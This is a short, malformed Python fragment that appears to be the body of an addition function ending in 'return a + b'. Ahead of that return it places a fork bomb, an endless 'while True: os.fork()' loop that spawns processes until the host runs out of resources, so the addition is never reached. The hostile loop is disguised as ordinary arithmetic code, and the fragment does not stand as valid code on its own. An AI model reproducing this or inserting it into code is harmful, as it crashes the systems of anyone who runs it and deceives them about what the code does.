    import os
    while True:
        os.fork()
    return a + b
